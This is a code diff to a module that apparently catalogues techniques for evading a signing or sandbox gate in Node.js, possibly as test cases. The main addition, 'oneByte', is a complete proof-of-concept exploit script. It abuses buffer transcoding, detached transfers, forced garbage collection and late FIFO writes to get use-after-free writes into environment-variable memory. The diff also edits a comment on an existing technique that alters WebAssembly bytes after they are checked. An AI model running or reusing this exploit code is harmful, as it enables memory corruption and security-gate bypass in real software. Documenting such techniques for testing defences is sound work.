@@ -3,7 +3,8 @@
  * each tries several times, and may fail all the same.
  */
 
-import { DATA, type Technique } from "../technique.js";
+import { execFileSync } from "../../outside.js";
+import { DATA, type Technique, withData } from "../technique.js";
 
 /** The module `(module (func (export "f") (result i32) i32.const 42))`. */
 const ANSWERS = Buffer.from("0061736d010000000105016000017f03020100070501016600000a06010400412a0b", "hex");
@@ -165,7 +166,7 @@ const LONG_MODULE = Buffer.concat([
 	Buffer.from("010b0080c04300", "hex"),
 	Buffer.alloc(0x10e000 - 1),
 ]);
-/** The native gate cannot hold this one: V8 keeps the bytes of a module in memory of libc, and compiles from them later. */
+/** V8 keeps the bytes of a module in memory of libc, and compiles from them later. */
 export const changedWebAssembly: Technique = {
 	name: "signed WebAssembly whose memory changes after the judgement",
 	signed: {
@@ -180,3 +181,38 @@ export const changedWebAssembly: Technique = {
 	},
 	beside: { "evil.wasm": ANSWERS },
 };
+
+/**
+ * Transcoding drops characters without width, so a long buffer becomes one of a byte. Libc later gives its memory to
+ * variables of the environment. The program prints the variables whose names the late writes changed.
+ */
+export const oneByte: Technique = withData(
+	"one byte of memory that Node.js made",
+	`process.env.UV_THREADPOOL_SIZE = "16";
+const fs = require("fs"), { transcode } = require("buffer");
+const fifo = fs.openSync(data + "/fifo", "r+");
+const wait = (ms) => new Promise((done) => setTimeout(done, ms));
+const collect = async () => {
+  for (let round = 0; round < 6; round++) {
+    let garbage = [];
+    for (let i = 0; i < 400_000; i++) garbage = [garbage.length];
+    await wait(10);
+  }
+};
+(async () => {
+  const make = () => transcode(Buffer.from("\\u200b".repeat(2000) + "A"), "utf8", "latin1").buffer;
+  await (async () => {
+    const buffers = Array.from({ length: 16 }, make);
+    for (const buffer of buffers) fs.read(fifo, Buffer.from(buffer), 0, 1, null, () => {});
+    await wait(200);
+    for (const buffer of buffers) structuredClone(buffer, { transfer: [buffer] });
+  })();
+  await collect();
+  for (let i = 0; i < 64; i++) process.env["X" + i] = "v".repeat(6001 - ("X" + i + "=").length - 1);
+  fs.writeSync(fifo, "Y".repeat(16));
+  await wait(300);
+  console.log("reached", Object.keys(process.env).filter((name) => name.startsWith("Y")).join());
+  process.exit();
+})();`,
+	{ arrange: ({ data }) => execFileSync("mkfifo", [`${data}/fifo`]) },
+);
